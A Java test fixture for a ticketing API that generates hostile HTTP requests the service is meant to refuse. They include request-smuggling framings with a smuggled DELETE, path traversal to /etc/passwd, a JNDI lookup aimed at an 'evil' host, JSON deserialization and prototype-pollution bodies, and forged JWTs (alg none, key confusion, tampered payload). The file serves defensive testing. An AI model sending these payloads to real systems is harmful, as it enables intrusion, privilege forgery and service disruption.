package dev.traza.stack.test;

import dev.traza.stack.token.SigningKey;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.security.GeneralSecurityException;
import java.time.Instant;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/** What somebody with bad intentions sends. Nothing of it may succeed, break a service, or leave a trace on the log. */
public final class HostileRequests {

    /** A word that is in every body, to be looked for where none of it may be. */
    public static final String MARK = "huehuecoyotl";

    private static final String TICKETS = "/api/v1/tickets";
    private static final String CRLF = "\r\n";
    private static final int LATER = 3_600;

    private static final int CLIENTS_FAULT = 400;
    private static final int OURS = 500;
    private static final int VERSION_NOT_SUPPORTED = 505;

    private HostileRequests() {}

    /** Whether an answer of this status says that it is the request which is wrong. */
    public static boolean isRefusal(int status) {
        return (status >= CLIENTS_FAULT && status < OURS) || status == VERSION_NOT_SUPPORTED;
    }

    /**
     * One of them.
     *
     * @param why it is refused
     * @param reaches whether it is enough of a request to be answered with a problem document
     */
    public record Hostile(String why, byte[] bytes, boolean reaches) {
        @Override
        public String toString() {
            return why;
        }
    }

    /** What is wrong with the framing of a request: two readers could take it for two different things. */
    public static Stream<Hostile> framing(String token) {
        String body = opening("a");
        String length = "Content-Length: " + body.length();
        return Stream.of(
                raw("two lengths", head(token, length, "Content-Length: 3") + body),
                raw("two lengths in one header", head(token, "Content-Length: 5, 6") + body),
                raw("a negative length", head(token, "Content-Length: -1") + body),
                raw("a length with a sign", head(token, "Content-Length: +" + body.length()) + body),
                raw("a length with letters", head(token, "Content-Length: 5abc") + body),
                raw("a length in hexadecimal", head(token, "Content-Length: 0x10") + body),
                raw("an enormous length", head(token, "Content-Length: 99999999999999999999") + body),
                raw(
                        "a length and chunks",
                        head(token, length, "Transfer-Encoding: chunked") + "0" + CRLF + CRLF + smuggled()),
                raw("chunks in a coding nobody knows", head(token, "Transfer-Encoding: xchunked") + chunked(body)),
                raw(
                        "two codings that contradict each other",
                        head(token, "Transfer-Encoding: chunked", "Transfer-Encoding: identity") + chunked(body)),
                raw("chunked first", head(token, "Transfer-Encoding: chunked, gzip") + chunked(body)),
                raw("a chunk size that is none", head(token, "Transfer-Encoding: chunked") + "ZZ" + CRLF + body),
                raw("a negative chunk size", head(token, "Transfer-Encoding: chunked") + "-5" + CRLF + body),
                raw(
                        "an enormous chunk size",
                        head(token, "Transfer-Encoding: chunked") + "FFFFFFFFFFFFFFFFF" + CRLF + body),
                raw(
                        "a chunk longer than it says",
                        head(token, "Transfer-Encoding: chunked") + "1" + CRLF + body + CRLF + "0" + CRLF + CRLF),
                raw("a space before the colon", head(token, "Content-Length : " + body.length()) + body),
                raw("a header without a name", head(token, length, ": nameless") + body),
                raw("a header without a colon", head(token, length, "nothing") + body),
                raw("NUL in a header", head(token, length, "X-Evil: a\u0000b") + body),
                raw("a lonely line feed in a header", head(token, length, "X-Evil: a\rb") + body),
                raw("a header that is too long", head(token, length, "X-Long: " + "a".repeat(20_000)) + body),
                raw(
                        "too many headers",
                        head(
                                        token,
                                        IntStream.range(0, 2_000)
                                                .mapToObj(i -> "X-H" + i + ": aaaaaaaa")
                                                .collect(Collectors.joining(CRLF)),
                                        length)
                                + body),
                raw(
                        "an address that is too long",
                        "POST /api/v1/tickets?q=" + "a".repeat(10_000) + " HTTP/1.1" + CRLF + "Host: localhost" + CRLF
                                + CRLF),
                raw("no host", head(token, length).replace("Host: localhost" + CRLF, "") + body),
                raw("two hosts", head(token, length, "Host: elsewhere") + body),
                raw("a version that nobody speaks", head(token, length).replace("HTTP/1.1", "HTTP/9.9") + body),
                raw("no version", head(token, length).replace(" HTTP/1.1", "") + body),
                raw("a method that is none", head(token, length).replace("POST ", "PO ST ") + body),
                raw("a method in lower case", head(token, length).replace("POST ", "post ") + body),
                raw("TRACE", head(token, length).replace("POST ", "TRACE ") + body),
                raw("CONNECT", head(token).replace("POST " + TICKETS, "CONNECT evil.example.org:443")),
                raw("the beginning of TLS", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000"),
                raw("the beginning of HTTP/2", "PRI * HTTP/2.0" + CRLF + CRLF + "SM" + CRLF + CRLF),
                raw("noise", "\u0000\u0001\u0002 noise" + CRLF + CRLF));
    }

    /** What leads elsewhere, if the address is not taken as it is. */
    public static Stream<Hostile> paths(String method, String token) {
        return Stream.of(
                        "/api/v1/tickets/%2e%2e%2f%2e%2e%2fq%2fhealth",
                        "/api/v1/tickets/..%2f..%2fetc%2fpasswd",
                        "/api/v1/tickets/..%5c..%5cwindows",
                        "/api/v1/tickets/%00",
                        "/api/v1/tickets/T-1%00/comments",
                        "/api/v1/tickets/x%2Fcomments",
                        "/api/v1/tickets/T-1%0d%0aX-Evil:%20a/comments",
                        "/api/v1/tickets/%c0%ae%c0%ae/comments",
                        "/api/v1/tickets/%ff%fe/comments",
                        "/api/v1/tickets/%zz/comments",
                        "/api/v1/tickets/%/comments",
                        "/api/v1/tickets/%u0041/comments",
                        "/api/v1/tickets/T-99999999;jsessionid=1/comments",
                        "/api/v1/tickets/T-999999999999999999999999/comments",
                        "/api/v1/tickets/T--1/comments",
                        "/api/v1/tickets/T-1e3/comments",
                        "/api/v1/tickets/" + "a/".repeat(1_000),
                        "/api/v1/tickets/" + "%41".repeat(1_000) + "/comments",
                        "/api/v1/attachments/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
                        "/api/v1/tickets/T-99999999/attachments/..%2f..%2fblobs",
                        "/api/v1/tickets/T-99999999/attachments/%00",
                        "/api/v1/tickets/$%7Bjndi:ldap:%2F%2Fevil%7D/comments",
                        "/api/v1/tickets/{ticket}/comments",
                        "/api/v1/tickets/<script>/comments",
                        "/..;/q/metrics",
                        "/%2e%2e/%2e%2e/etc/passwd",
                        "/api/v1/../../../etc/passwd",
                        "\\api\\v1\\tickets")
                .map(path -> {
                    String body = "{\"body\": \"" + MARK + "\", \"visibility\": \"PUBLIC\"}";
                    String head = head(token, "Content-Length: " + body.length())
                            .replace("POST " + TICKETS + " ", method + " " + path + " ");
                    return raw("the address " + (path.length() > 90 ? path.substring(0, 90) + "…" : path), head + body);
                });
    }

    /** Bodies that are meant to be dear, or to be read as something else. Each is answered with a problem document. */
    public static Stream<Hostile> bodies(String token) {
        String many =
                IntStream.range(0, 60_000).mapToObj(i -> "\"k" + i + "\":1").collect(Collectors.joining(","));
        // All with the same hash code, so that a plain table of them would take for ever.
        String colliding = IntStream.range(0, 1 << 13)
                .mapToObj(i -> "\""
                        + Integer.toBinaryString((1 << 13) | i)
                                .replace("0", "Aa")
                                .replace("1", "BB") + "\":\"v\"")
                .collect(Collectors.joining(","));
        return Stream.of(
                json(token, "very deep lists", "[".repeat(100_000)),
                json(token, "very deep objects", "{\"a\":".repeat(100_000) + "1" + "}".repeat(100_000)),
                json(token, "deep where nothing is known", with("\"x\": " + "[".repeat(900) + "]".repeat(900))),
                json(token, "many keys", "{" + many + "}"),
                json(token, "many custom fields", with("\"customFields\": {" + many.replace(":1", ":\"1\"") + "}")),
                json(token, "keys that collide", with("\"customFields\": {" + colliding + "}")),
                json(token, "an enormous number", with("\"occurredAt\": 1" + "0".repeat(5_000))),
                json(token, "an enormous exponent", with("\"occurredAt\": 1e999999999")),
                json(token, "a time that is a number", with("\"occurredAt\": 1700000000")),
                json(token, "a time that is a number as text", with("\"occurredAt\": \"1700000000\"")),
                json(token, "the beginning of time", with("\"occurredAt\": \"-999999999-01-01T00:00:00Z\"")),
                json(token, "the end of time", with("\"occurredAt\": \"+999999999-12-31T23:59:59Z\"")),
                json(token, "a number beyond every type", with("\"impact\": 99999999999999999999999999")),
                json(token, "a number that is none", with("\"impact\": NaN")),
                json(token, "a truth instead of a text", with("\"category\": true")),
                json(token, "an object instead of a text", with("\"category\": {\"$ne\": null}")),
                json(token, "a list instead of a text", with("\"category\": [\"a\"]")),
                json(token, "a text instead of a list", with("\"attachments\": \"a\"")),
                json(token, "attachments that are objects", with("\"attachments\": [{}]")),
                json(token, "a thousand attachments", with("\"attachments\": [" + ids(1_000) + "]")),
                json(token, "a type to be made", with("\"@type\": \"java.lang.Runtime\"")),
                json(token, "a prototype", with("\"__proto__\": {\"vip\": true}")),
                json(token, "an escaped field twice", with("\"\\u0073ubject\": \"b\"")),
                json(token, "a field in full-width letters", with("\"ｓｕｂｊｅｃｔ\": \"b\"")),
                json(token, "a field with a direction in it", with("\"\u202Etcejbus\": \"b\"")),
                json(token, "a field of one NUL", with("\"\\u0000\": \"b\"")),
                json(token, "a control character in a text", with("\"category\": \"a\\u0007b\"")),
                json(token, "a raw control character in a text", with("\"category\": \"a\u0007b\"")),
                json(token, "half a character", with("\"category\": \"\\ud800\"")),
                json(token, "a comment in the document", with("/* \" */ \"category\": \"a\"")),
                json(token, "single quotes", with("'category': 'a'")),
                json(token, "an unfinished text", with("\"category\": \"a").replaceAll("}$", "")),
                body(token, "bytes that are no UTF-8", invalidUtf8()),
                body(token, "an overlong slash", overlong()),
                body(token, "a document in UTF-16", opening("a").getBytes(StandardCharsets.UTF_16)),
                body(token, "a document in Latin-1", opening("ñ").getBytes(StandardCharsets.ISO_8859_1)),
                typed(token, "an XML document", "application/xml", "<a/>"),
                typed(token, "a form", "application/x-www-form-urlencoded", "subject=a&description=b"),
                typed(token, "a type that is none", "application", opening("a")),
                typed(token, "a compressed document", "application/json\r\nContent-Encoding: gzip", "\u001f\u008b"));
    }

    /** Tokens of {@code subject} that nobody gave them, or not for this; by why they are refused. */
    public static Map<String, String> tokens(SigningKey key, String subject) {
        Map<String, String> tokens = new LinkedHashMap<>();
        String good = claims(subject, SigningKey.ISSUER, SigningKey.AUDIENCE, LATER, "[\"admin\"]");
        String valid = key.sign(good);
        String[] parts = valid.split("\\.");
        String payload = base64(good.getBytes(StandardCharsets.UTF_8));
        for (String none : new String[] {"none", "None", "NONE"}) {
            tokens.put(
                    "no signature, alg " + none,
                    base64(("{\"alg\":\"" + none + "\",\"typ\":\"JWT\"}").getBytes(StandardCharsets.UTF_8)) + "."
                            + payload + ".");
        }
        tokens.put("the signature of RS256 taken away", parts[0] + "." + parts[1] + ".");
        tokens.put("signed with the public key as a secret", hmac(key, payload));
        tokens.put(
                "another payload under a good signature",
                parts[0] + "." + base64(good.replace(subject, "root").getBytes(StandardCharsets.UTF_8)) + "."
                        + parts[2]);
        tokens.put(
                "another audience",
                key.sign(claims(subject, SigningKey.ISSUER, "another-service", LATER, "[\"admin\"]")));
        tokens.put(
                "another issuer",
                key.sign(claims(subject, "https://evil.example.org", SigningKey.AUDIENCE, LATER, "[\"admin\"]")));
        tokens.put("expired", key.sign(claims(subject, SigningKey.ISSUER, SigningKey.AUDIENCE, -LATER, "[\"admin\"]")));
        tokens.put("no expiry", key.sign(good.replaceAll("\"exp\":\\d+,", "")));
        tokens.put("an expiry that is a text", key.sign(good.replaceAll("\"exp\":(\\d+)", "\"exp\":\"$1\"")));
        tokens.put("no subject", key.sign(good.replace("\"sub\":\"" + subject + "\",", "")));
        tokens.put("a subject that is too long", key.sign(good.replace(subject, "x".repeat(300))));
        tokens.put("claims that are a list", key.sign("[]"));
        tokens.put("two dots", "..");
        tokens.put("a name", "ana");
        return tokens;
    }

    private static String claims(String subject, String issuer, String audience, int seconds, String groups) {
        long now = Instant.now().getEpochSecond();
        return "{\"iss\":\"%s\",\"aud\":\"%s\",\"sub\":\"%s\",\"upn\":\"%s\",\"jti\":\"%s\",\"iat\":%d,\"exp\":%d,\"groups\":%s}"
                .formatted(
                        issuer,
                        audience,
                        subject,
                        subject,
                        Long.toString(System.nanoTime(), Character.MAX_RADIX),
                        now - 2L * LATER,
                        now + seconds,
                        groups);
    }

    private static String hmac(SigningKey key, String payload) {
        try {
            String head = base64("{\"alg\":\"HS256\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8));
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(Files.readAllBytes(key.verificationKey()), "HmacSHA256"));
            byte[] signature = mac.doFinal((head + "." + payload).getBytes(StandardCharsets.US_ASCII));
            return head + "." + payload + "." + base64(signature);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException("Every Java has HmacSHA256", e);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String base64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static String smuggled() {
        return "DELETE /api/v1/tickets/T-1/assignment HTTP/1.1" + CRLF + "Host: localhost" + CRLF + CRLF;
    }

    private static String chunked(String body) {
        return Integer.toHexString(body.length()).toUpperCase(Locale.ROOT) + CRLF + body + CRLF + "0" + CRLF + CRLF;
    }

    private static String ids(int count) {
        return IntStream.range(0, count)
                .mapToObj("\"00000000-0000-7000-8000-%012d\""::formatted)
                .collect(Collectors.joining(","));
    }

    /** A ticket that would be fine, but for what is wrong with it. */
    private static String opening(String word) {
        return "{\"subject\": \"" + MARK + "\", \"description\": \"" + word + "\"}";
    }

    private static String with(String field) {
        return opening("a").replaceAll("}$", "") + ", " + field + "}";
    }

    private static byte[] invalidUtf8() {
        return replaced((byte) 0xff);
    }

    private static byte[] overlong() {
        return replaced((byte) 0xc0, (byte) 0xaf);
    }

    private static byte[] replaced(byte... by) {
        String[] parts = opening("#").split("#", -1);
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(parts[0].getBytes(StandardCharsets.UTF_8));
        bytes.writeBytes(by);
        bytes.writeBytes(parts[1].getBytes(StandardCharsets.UTF_8));
        return bytes.toByteArray();
    }

    private static Hostile json(String token, String why, String json) {
        return body(token, why, json.getBytes(StandardCharsets.UTF_8));
    }

    private static Hostile body(String token, String why, byte[] body) {
        return whole(why, head(token, "Content-Length: " + body.length), body);
    }

    private static Hostile typed(String token, String why, String type, String text) {
        byte[] body = text.getBytes(StandardCharsets.ISO_8859_1);
        String head = head(token, "Content-Length: " + body.length)
                .replace("Content-Type: application/json", "Content-Type: " + type);
        return whole(why, head, body);
    }

    private static Hostile whole(String why, String head, byte[] body) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(head.getBytes(Charset.forName("ISO-8859-1")));
        bytes.writeBytes(body);
        return new Hostile(why, bytes.toByteArray(), true);
    }

    private static Hostile raw(String why, String request) {
        return new Hostile(why, request.getBytes(StandardCharsets.ISO_8859_1), false);
    }

    private static String head(String token, String... headers) {
        return "POST " + TICKETS + " HTTP/1.1" + CRLF + "Host: localhost" + CRLF + "Connection: close" + CRLF
                + "Authorization: Bearer " + token + CRLF + "Content-Type: application/json" + CRLF
                + Stream.of(headers).map(header -> header + CRLF).collect(Collectors.joining())
                + CRLF;
    }
}
